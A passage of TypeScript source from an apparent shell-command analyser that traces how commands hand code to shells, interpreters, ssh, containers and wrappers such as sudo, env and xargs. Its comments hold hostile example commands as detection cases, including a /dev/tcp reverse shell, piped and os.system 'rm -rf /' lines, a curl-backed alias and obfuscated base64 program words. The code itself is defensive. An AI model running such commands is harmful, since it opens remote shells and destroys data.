  const args = cmd.argv.slice(1);
  const inner = (src: string, label: string, opts: { cwd?: string; fresh?: boolean; computed?: boolean } = {}): void => {
    b.trace.push({ kind: 'unwrap', depth: cmd.depth + 1, wrapper: label, text: clip(src) });
    const cwd = opts.cwd ?? cmd.cwd;
    walk(src, opts.fresh === true ? freshState(cwd) : fork(state, cwd), [...cmd.via, label], cmd.depth + 1, b, opts.computed === true ? cmd : undefined);
  };
  const stdinInputs = from.upstream === undefined ? from.words : [from.upstream, ...from.words];
  /** `sh -c CODE`, `eval CODE`: the code is an argument, known or not. */
  const codeArgument = (code: string, label: string): void => {
    if (code.trim() === '') return;
    const unknown = wholeUnknown(code);
    setRuns(cmd, b, { kind: unknown ? 'unknown-code' : 'known-code', how: 'argument', ...(unknown ? {} : { source: label }) }, from.words);
    inner(code, label);
  };
  // `$SHELL -c '…'`, `"$(which bash)" -c '…'`: a program warden cannot name, given a command string
  // the way a shell is, is read as a shell (a non-shell reading `-c` code only costs a false alarm).
  if (SHELLS.has(name) || (isDynamic(name) && shellCommandArg(args) !== undefined)) {
    // `bash -n`: read and check the syntax, run nothing.
    if (noExec(args)) return;
    const c = shellCommandArg(args);
    if (c !== undefined) {
      codeArgument(c, `${display(name)} -c`);
      return;
    }
    const script = shellScriptArg(args);
    if (script !== undefined) runScript(cmd, script, 'run', state, b, from);
    else shellStdin(cmd, name, state, b, from, inner, stdinInputs);
    return;
  }
  if (name === 'eval') {
    codeArgument(args.join(' '), 'eval');
    return;
  }
  if (name === 'trap') {
    // `trap 'cmd' EXIT`: the command runs later, in this shell.
    const code = args[0];
    if (code !== undefined && code !== '-' && !code.startsWith('-') && args.length > 1) inner(code, 'trap');
    return;
  }
  if (name === 'alias') {
    // `alias ls='curl …; ls'`: every later use of the name runs the value. It is analysed here, once.
    for (const a of args) {
      const m = /^([^=\s]+)=(.*)$/s.exec(a);
      if (m && (m[2] as string).trim() !== '') inner(m[2] as string, `alias ${m[1] as string}`);
    }
    return;
  }
  if (name === 'source' || name === '.') {
    if (args[0] !== undefined) runScript(cmd, args[0], 'source', state, b, from);
    return;
  }
  if (isInterpreter(name)) {
    interpreter(cmd, state, b, from, inner, stdinInputs);
    return;
  }
  if (name === 'su' || name === 'runuser') {
    // `su [user] -c 'cmd'`: the command runs in the user's shell; `runuser -u user cmd…` directly.
    const c = suCommand(args);
    if (c !== undefined) inner(c, `${name} -c`);
    else if (name === 'runuser') runInner(runuserCommand(args), inner);
    return;
  }
  if (name === 'find') {
    // `find root … -exec cmd {} ;`: cmd runs once per match, `{}` a path under root warden cannot
    // know. The words are already resolved, so they go back in quoted.
    for (const run of findExecs(args)) inner(shellQuote(run.argv), `find ${run.action}`);
    return;
  }
  if (name === 'ssh') {
    // The remote command runs in the remote user's shell, in a directory unknown here.
    runInner(sshCommand(args), inner, true);
    return;
  }
  if (DOCKERS.has(name)) {
    runInner(dockerCommand(name, args), inner, true);
    return;
  }
  if (name === 'kubectl' || name === 'oc') {
    runInner(kubectlCommand(name, args), inner, true);
    return;
  }
  if (name === 'watch') {
    runInner(watchCommand(args), inner);
    return;
  }
  if (name === 'parallel') {
    const p = parallelCommands(args);
    if (p === undefined) return;
    // No command: every input line is one (`parallel < jobs.txt`, `echo … | parallel`).
    if (p.fromStdin) shellStdin(cmd, name, state, b, from, inner, stdinInputs);
    for (const t of p.texts) {
      // `parallel :::: jobs.txt`: commands read from a file.
      if (wholeUnknown(t)) setRuns(cmd, b, { kind: 'unknown-code', how: 'argument', source: 'its input' }, from.words);
      else inner(t, p.label);
    }
    return;
  }
  // `./x.sh`, `/abs/x.sh`, `dir/x`: a script run by path is read and analysed.
  if (prog.includes('/') && !isDynamic(prog)) {
    runScript(cmd, prog, 'exec', state, b, from);
    return;
  }
  // `$(curl …)`, `$(echo Y3VybA== | base64 -d) …`: the program word is another command's output.
  if (from.program.length > 0) setRuns(cmd, b, { kind: isDynamic(prog) ? 'unknown-code' : 'known-code', how: 'program' }, from.program);
}

/** Walks what a runner (ssh, docker, kubectl, watch, runuser) hands on, if anything. */
function runInner(r: Inner | undefined, inner: (src: string, label: string, opts?: { cwd?: string; fresh?: boolean }) => void, fresh = false): void {
  if (r === undefined) return;
  const src = r.text ?? shellQuote(r.argv ?? []);
  inner(src, r.label, { ...(r.cwd !== undefined ? { cwd: r.cwd } : {}), fresh });
}

type InnerFn = (src: string, label: string, opts?: { cwd?: string; fresh?: boolean; computed?: boolean }) => void;

const NETWORK_DEVICE = /^\/dev\/(tcp|udp)\//;

/** A shell with no script and no -c reads its program from stdin: a heredoc, a pipe, a file. */
function shellStdin(cmd: SimpleCommand, name: string, state: State, b: Budget, from: Inputs, inner: InnerFn, stdinInputs: SimpleCommand[]): void {
  // `bash -i >& /dev/tcp/host/port 0>&1`: a shell wired to a network connection (a reverse shell).
  const net = cmd.redirects.find((r) => NETWORK_DEVICE.test(r.target));
  if (net !== undefined) {
    setRuns(cmd, b, { kind: 'unknown-code', how: 'stdin', source: net.target, file: net.target }, []);
    return;
  }
  const s = cmd.stdin;
  if (s === undefined) return;
  switch (s.kind) {
    case 'heredoc':
    case 'herestring':
      setRuns(cmd, b, { kind: 'known-code', how: 'stdin', source: `${name} <<` }, from.words);
      inner(s.text, `${name} <<`);
      return;
    case 'pipe':
      if (s.text !== undefined) {
        // `echo 'rm -rf /' | sh`: the shell runs what the literal source printed.
        setRuns(cmd, b, { kind: 'known-code', how: 'stdin', source: `${s.from} | ${name}` }, stdinInputs);
        inner(s.text, `${s.from} | ${name}`);
      } else {
        setRuns(cmd, b, { kind: 'unknown-code', how: 'stdin' }, stdinInputs);
      }
      return;
    case 'file':
      runScript(cmd, s.path, 'stdin', state, b, from);
      return;
  }
}

/** An interpreter's inline code (read for the shell commands it starts) or stdin code. */
function interpreter(cmd: SimpleCommand, state: State, b: Budget, from: Inputs, inner: InnerFn, stdinInputs: SimpleCommand[]): void {
  const ic = readInterpreter(cmd.program, cmd.argv);
  const known = (code: string, how: CodeHow, source: string, direct: readonly SimpleCommand[]): void => {
    if (ic.lang === undefined) {
      setRuns(cmd, b, { kind: 'known-code', how, source }, direct);
      return;
    }
    const inline = { lang: ic.lang, code };
    setRuns(cmd, b, { kind: 'known-code', how, source, inline }, direct);
    const p = oneLinerOf(inline);
    // `os.system('rm -rf /')`, `execSync(…)`, backticks: the shell commands it starts. A shell
    // string runs as `/bin/sh -c STRING` (what system(3) does), so an unknown one is a shell
    // running code warden cannot see; one the code computes entirely (`os.system(b64decode(…))`)
    // is the code's own output.
    for (const run of shellRuns(p, { home: state.vars.get('HOME') ?? b.home, cwd: cmd.cwd })) {
      if (b.commands >= LIMITS.maxCommands) break;
      const computed = run.text !== undefined ? wholeUnknown(run.text) : (run.argv ?? []).every((w) => wholeUnknown(w));
      inner(shellQuote(run.text !== undefined ? ['sh', '-c', run.text] : (run.argv ?? [])), `${cmd.program}: ${run.label}`, { computed });
    }
    if (p.truncated) bound(b, `interpreter code longer than ${MAX_CODE} characters or too complex to read`, MAX_CODE);
  };
  if (ic.code !== undefined) {
    if (wholeUnknown(ic.code)) setRuns(cmd, b, { kind: 'unknown-code', how: 'argument' }, from.words);
    else known(ic.code, 'argument', `${cmd.program} inline code`, from.words);
    return;
  }
  if (ic.script !== undefined && (isDynamic(ic.script) || NETWORK_DEVICE.test(ic.script))) {
    // `python3 <(curl …)`, `node "$F"`: a script warden cannot know. (A script on disk is not read:
    // only shell scripts are.)
    setRuns(cmd, b, { kind: 'unknown-code', how: 'script', ...(from.words.length === 0 ? { source: display(ic.script) } : {}), file: ic.script }, from.words);
    return;
  }
  const s = cmd.stdin;
  const readsStdin = ic.stdin || (ic.script !== undefined && STDIN_FILES.has(ic.script));
  if (!readsStdin || s === undefined) return;
  switch (s.kind) {
    case 'heredoc':
    case 'herestring':
      known(s.text, 'stdin', `${cmd.program} <<`, from.words);
      return;
    case 'pipe':
      if (s.text !== undefined) known(s.text, 'stdin', `${s.from} | ${cmd.program}`, stdinInputs);
      else setRuns(cmd, b, { kind: 'unknown-code', how: 'stdin' }, stdinInputs);
      return;
    case 'file':
      // `python3 < script.py` is read no more than `python3 script.py`; a process substitution or a
      // network device is code from elsewhere.
      if (isDynamic(s.path) || NETWORK_DEVICE.test(s.path)) {
        setRuns(cmd, b, { kind: 'unknown-code', how: 'stdin', ...(from.words.length === 0 ? { source: display(s.path) } : {}), file: s.path }, from.words);
      }
      return;
  }
}

const STDIN_FILES = new Set(['/dev/stdin', '/dev/fd/0', '/proc/self/fd/0']);

/**
 * A script a shell runs (`bash x.sh`: 'run'), sources ('source'), reads as stdin ('stdin') or the
 * command runs by path ('exec'): read from disk and analysed, or recorded as code warden cannot
 * read — a path it cannot know, a file that does not exist (yet), that this very command line
 * writes first, or that cannot be read.
 */
function runScript(cmd: SimpleCommand, word: string, mode: 'run' | 'source' | 'stdin' | 'exec', state: State, b: Budget, from: Inputs): void {
  const how: CodeHow = mode === 'stdin' ? 'stdin' : 'script';
  const label = mode === 'source' ? `source ${display(word)}` : mode === 'exec' ? display(word) : mode === 'stdin' ? `${cmd.program} < ${display(word)}` : `${cmd.program} ${display(word)}`;
  const unknown = (source: string | undefined, direct: readonly SimpleCommand[], file?: string): void =>
    setRuns(cmd, b, { kind: 'unknown-code', how, ...(source !== undefined ? { source } : {}), ...(file !== undefined ? { file } : {}) }, direct);
  if (isDynamic(word) || (!word.startsWith('/') && isDynamic(cmd.cwd))) {
    // `bash <(curl …)`, `source "$F"`, `./x.sh` after `cd "$X"`.
    unknown(from.words.length > 0 ? undefined : `${display(word)} (a path warden cannot know)`, from.words, word);
    return;
  }
  const file = path.posix.resolve(cmd.cwd, word);
  if (STDIN_FILES.has(file) && mode !== 'stdin' && mode !== 'exec') {
    // `bash /dev/stdin`, `source /dev/stdin`: the program comes from stdin after all.
    const stdinInputs = from.upstream === undefined ? from.words : [from.upstream, ...from.words];
    if (cmd.stdin?.kind === 'pipe' && cmd.stdin.text === undefined) unknown(undefined, stdinInputs);
    else if (cmd.stdin?.kind === 'pipe' || cmd.stdin?.kind === 'heredoc' || cmd.stdin?.kind === 'herestring') {
      setRuns(cmd, b, { kind: 'known-code', how: 'stdin', source: label }, stdinInputs);
      b.trace.push({ kind: 'unwrap', depth: cmd.depth + 1, wrapper: label, text: clip(cmd.stdin.text ?? '') });
      walk(cmd.stdin.text ?? '', mode === 'source' ? state : freshState(cmd.cwd), [...cmd.via, label], cmd.depth + 1, b);
    }
    return;
  }
  if (NETWORK_DEVICE.test(file)) {
    unknown(file, [], file);
    return;
  }
  if (isSystemPath(file)) return;
  const written = b.written.get(file);
  if (written !== undefined) {
    // Written earlier in this command line: what is on disk now is not what runs. Literal content
    // (`cat > x.sh <<EOF`) is analysed; anything else is unknown.
    if (written.text === undefined || wholeUnknown(written.text)) {
      unknown(`${display(word)}, written by \`${written.cmd.text}\` earlier in this command`, [written.cmd], file);
      return;
    }
    setRuns(cmd, b, { kind: 'known-code', how, source: `${label}, written by \`${written.cmd.text}\``, file }, [written.cmd]);
    b.trace.push({ kind: 'unwrap', depth: cmd.depth + 1, wrapper: label, text: clip(written.text) });
    walk(written.text, mode === 'source' ? state : freshState(cmd.cwd), [...cmd.via, label], cmd.depth + 1, b);
    return;
  }
  if (b.scripts >= LIMITS.maxScripts) {
    bound(b, 'too many scripts to read', LIMITS.maxScripts);
    return;
  }
  b.scripts++;
  const r = readScript(file);
  switch (r.kind) {
    case 'missing':
      setRuns(cmd, b, { kind: 'unknown-code', how, source: `${display(word)} (does not exist)`, file, missing: { after: [...new Set(b.writers)] } }, []);
      return;
    case 'unreadable':
      unknown(`${display(word)} (cannot be read)`, [], file);
      return;
    case 'not-a-file':
      unknown(`${display(word)} (not a regular file)`, [], file);
      return;
    case 'too-large':
      bound(b, `script larger than ${LIMITS.maxScript} bytes`, LIMITS.maxScript);
      return;
    case 'binary':
      return;
    case 'text': {
      // Run by path, a script for another interpreter (`#!/usr/bin/env python3`) is not read.
      const interp = mode === 'exec' ? shebangProgram(r.text) : undefined;
      if (interp !== undefined && !SHELLS.has(interp)) return;
      setRuns(cmd, b, { kind: 'known-code', how, source: label, file }, []);
      // The trace names the file, not its text (a sourced `.env` holds secrets).
      b.trace.push({ kind: 'unwrap', depth: cmd.depth + 1, wrapper: label, text: `script ${file} (${r.text.length} characters)` });
      const st = mode === 'source' ? state : freshState(cmd.cwd);
      walk(r.text, st, [...cmd.via, label], cmd.depth + 1, b);
      return;
    }
  }
}

/** `sh -n …`, `bash -xn …`, `-o noexec`: the shell only parses. */
function noExec(args: readonly string[]): boolean {
  for (let i = 0; i < args.length; i++) {
    const a = args[i] as string;
    if (a === '-o' || a === '+o') {
      if (a === '-o' && args[i + 1] === 'noexec') return true;
      i++;
      continue;
    }
    if (a === '--' || a === '-' || !a.startsWith('-')) return false;
    if (a.startsWith('--')) continue;
    if (a.includes('n')) return true;
    // `-c`: the next word is the code, not an option.
    if (a.includes('c')) return false;
  }
  return false;
}

/** `bash x.sh`, `sh -e -- x.sh`: the script argument, unless the shell reads stdin (`-s`, `-`). */
function shellScriptArg(args: string[]): string | undefined {
  for (let i = 0; i < args.length; i++) {
    const a = args[i] as string;
    if (a === '--') return args[i + 1];
    if (a === '-' || /^-[a-zA-Z]*s[a-zA-Z]*$/.test(a)) return undefined;
    if (a.startsWith('-') || a.startsWith('+')) {
      if (a === '-o' || a === '+o' || a === '-O' || a === '+O' || a === '--rcfile' || a === '--init-file') i++;
      continue;
    }
    return a;
  }
  return undefined;
}

function suCommand(args: string[]): string | undefined {
  for (let i = 0; i < args.length; i++) {
    const a = args[i] as string;
    if (a === '-c' || a === '--command') return args[i + 1];
    if (a.startsWith('--command=')) return a.slice('--command='.length);
    if (/^-[a-zA-Z]*c$/.test(a) && !a.startsWith('--')) return args[i + 1];
  }
  return undefined;
}

const FIND_EXEC = new Set(['-exec', '-execdir', '-ok', '-okdir']);

/** The commands of a find's `-exec`/`-execdir`/`-ok`/`-okdir` actions, `{}` made unknown. */
function findExecs(args: string[]): { action: string; argv: string[] }[] {
  const roots: string[] = [];
  let i = 0;
  while (i < args.length && !/^[-(!]/.test(args[i] as string)) roots.push(args[i++] as string);
  // One root: matches are below it (`-execdir` runs next to the match, which is below it too).
  const root = roots.length === 1 ? (roots[0] as string) : roots.length === 0 ? '.' : UNKNOWN;
  const match = root === UNKNOWN ? UNKNOWN : `${root.replace(/\/+$/, '')}/${UNKNOWN}`;
  const out: { action: string; argv: string[] }[] = [];
  for (; i < args.length; i++) {
    const action = args[i] as string;
    if (!FIND_EXEC.has(action)) continue;
    const argv: string[] = [];
    for (i++; i < args.length && args[i] !== ';' && args[i] !== '+'; i++) argv.push((args[i] as string).split('{}').join(match));
    if (argv.length > 0) out.push({ action, argv });
  }
  return out;
}

/** `bash -c 'cmd'`, `bash -lc 'cmd'`, `sh -ec 'cmd'`: the argument after the first flag group containing c. */
function shellCommandArg(args: string[]): string | undefined {
  for (let i = 0; i < args.length; i++) {
    const a = args[i] as string;
    if (a === '--') return undefined;
    // `bash -c -- 'cmd'`: the `--` ends the options; the command is the word after it.
    if (/^-[a-zA-Z]*c[a-zA-Z]*$/.test(a)) return args[i + 1] === '--' ? args[i + 2] : args[i + 1];
    if (a.startsWith('-') || a.startsWith('+')) {
      if (a === '-o' || a === '+o' || a === '-O' || a === '+O') i++;
      continue;
    }
    return undefined;
  }
  return undefined;
}

// ---------------------------------------------------------------------------------------------
// Wrappers: programs that run their arguments as a command. Each entry says which of its flags
// take a value, and how its command starts.

interface Wrapper {
  /** Flags that take a value: the next word, or the rest of a short group (`-uroot`, `-Eu root`). */
  valueFlags: ReadonlySet<string>;
  /** Positional words before the command (timeout's DURATION). */
  positionals?: number;
  /** `env`: NAME=value words before the command. */
  assignments?: boolean;
  /** Arguments that mean "do not run anything" (`command -v`). */
  noRun?: ReadonlySet<string>;
  /** Value flags naming the directory the command runs in (`env -C dir`, `sudo -D dir`). */
  chdir?: ReadonlySet<string>;
  /** Value flags whose value is split into the command's first words (`env -S 'rm -rf /'`). */
  split?: ReadonlySet<string>;
  /**
   * xargs: the command gets more operands from stdin. `replace` flags name the placeholder the
   * input is put in (`-I {}`); `replaceDefault` flags use `{}` unless a value is attached (`-i`).
   */
  input?: { replace: ReadonlySet<string>; replaceDefault: ReadonlySet<string> };
}

const set = (...xs: string[]): ReadonlySet<string> => new Set(xs);

export const WRAPPERS: Readonly<Record<string, Wrapper>> = {
  sudo: {
    valueFlags: set('-u', '--user', '-g', '--group', '-C', '--close-from', '-h', '--host', '-p', '--prompt', '-r', '--role', '-t', '--type', '-U', '--other-user', '-D', '--chdir', '-T', '--command-timeout'),
    noRun: set('-l', '--list', '-v', '--validate', '-k', '-K', '-e', '--edit', '-V'),
    chdir: set('-D', '--chdir'),
  },
  doas: { valueFlags: set('-u', '-C') },
  env: { valueFlags: set('-u', '--unset', '-C', '--chdir', '-S', '--split-string'), assignments: true, chdir: set('-C', '--chdir'), split: set('-S', '--split-string') },
  nice: { valueFlags: set('-n', '--adjustment') },
  nohup: { valueFlags: set() },
  time: { valueFlags: set('-f', '--format', '-o', '--output') },
  timeout: { valueFlags: set('-s', '--signal', '-k', '--kill-after'), positionals: 1 },
  stdbuf: { valueFlags: set('-i', '-o', '-e', '--input', '--output', '--error') },
  ionice: { valueFlags: set('-c', '--class', '-n', '--classdata', '-p', '--pid', '-P', '--pgid', '-u', '--uid') },
  chrt: { valueFlags: set(), positionals: 1 },
  taskset: { valueFlags: set(), positionals: 1 },
  command: { valueFlags: set(), noRun: set('-v', '-V') },
  builtin: { valueFlags: set() },
  exec: { valueFlags: set('-a') },
  setsid: { valueFlags: set() },
  unbuffer: { valueFlags: set() },
  caffeinate: { valueFlags: set('-t', '-w') },
  // `busybox rm -rf /`, `busybox sh -c …`: the applet is the command.
  busybox: { valueFlags: set(), noRun: set('--list', '--list-full', '--install', '--help') },
  pkexec: { valueFlags: set('--user') },
  xargs: {
    valueFlags: set('-a', '--arg-file', '-d', '--delimiter', '-E', '-I', '-L', '--max-lines', '-n', '--max-args', '-P', '--max-procs', '-s', '--max-chars', '--process-slot-var'),
    input: { replace: set('-I'), replaceDefault: set('-i', '--replace') },
  },
};

/** One option word of a wrapper: the flag it sets, its value if it takes one, words consumed. */
function readOption(w: Wrapper, words: readonly string[], i: number): { flag: string; value?: string; used: number } {
  const a = words[i] as string;
  if (a.startsWith('--')) {
    const eq = a.indexOf('=');
    if (eq !== -1) return { flag: a.slice(0, eq), value: a.slice(eq + 1), used: 1 };
    if (w.valueFlags.has(a)) return words[i + 1] === undefined ? { flag: a, used: 1 } : { flag: a, value: words[i + 1], used: 2 };
    return { flag: a, used: 1 };
  }
  // A short group, read as getopt does: the first flag taking a value takes the rest of the group,
  // or the next word. `-i`-style optional values only come attached.
  for (let j = 1; j < a.length; j++) {
    const flag = `-${a[j] as string}`;
    const optional = w.input?.replaceDefault.has(flag) === true;
    if (w.valueFlags.has(flag) || optional) {
      if (j < a.length - 1) return { flag, value: a.slice(j + 1), used: 1 };
      if (optional) return { flag, used: 1 };
      return words[i + 1] === undefined ? { flag, used: 1 } : { flag, value: words[i + 1], used: 2 };
    }
  }
  return { flag: a, used: 1 };
}

/** Words of an `env -S` string: split as the shell would, expansions unknown. */
function splitString(value: string): string[] {
  try {
    return shellParse(value, () => UNKNOWN).map((t) => (typeof t === 'string' ? t : 'pattern' in t ? t.pattern : 'op' in t ? t.op : ''));
  } catch {
    return [UNKNOWN];
  }
}

/**
 * Strips wrappers off argv (recording them in `chain`), returning the wrapped command's argv and
 * the directory it runs in.
 */
function unwrap(argv: string[], cwd: string, chain: string[], b: Budget, depth: number): { argv: string[]; cwd: string } {
  let cur = argv;
  let dir = cwd;
  for (let guard = 0; guard < 16 && cur.length > 0; guard++) {
    const name = programName(cur[0] as string);
    const w = WRAPPERS[name];
    if (!w) break;
    let i = 1;
    let positionals = w.positionals ?? 0;
    let stop = false;
    let placeholder: string | undefined;
    while (i < cur.length) {
      const a = cur[i] as string;
      if (a === '--') {
        i++;
        break;
      }
      if (w.noRun?.has(a)) {
        stop = true;
        break;
      }
      if (a === '-' && name === 'env') {
        i++;
        continue;
      }
      if (a.startsWith('-') && a.length > 1) {
        const o = readOption(w, cur, i);
        if (o.value !== undefined && w.chdir?.has(o.flag)) {
          dir = isDynamic(o.value) || isDynamic(dir) ? UNKNOWN : path.posix.resolve(dir, o.value);
        }
        if (o.value !== undefined && w.split?.has(o.flag)) {
          // `env -S 'a b' c`: as if `env a b c` had been written.
          cur = [cur[0] as string, ...splitString(o.value), ...cur.slice(i + o.used)];
          continue;
        }
        if (w.input?.replace.has(o.flag) && o.value !== undefined) placeholder = o.value;
        if (w.input?.replaceDefault.has(o.flag)) placeholder = o.value ?? '{}';
        i += o.used;
        continue;
      }
      if (w.assignments && ASSIGN.test(a)) {
        i++;
        continue;
      }
      if (positionals > 0) {
        positionals--;
        i++;
        continue;
      }
      break;
    }
    if (stop || i >= cur.length) break;
    chain.push(name);
    cur = cur.slice(i);
    if (w.input) {
      // The operands come from stdin: unknown, in the placeholder or after the given arguments.
      const ph = placeholder;
      cur = ph === undefined || ph === '' ? [...cur, UNKNOWN] : cur.map((x, k) => (k === 0 ? x : x.split(ph).join(UNKNOWN)));
    }
    b.trace.push({ kind: 'unwrap', depth, wrapper: name, text: cur.slice(0, 64).map(display).join(' ') });
  }
  return { argv: cur, cwd: dir };
}
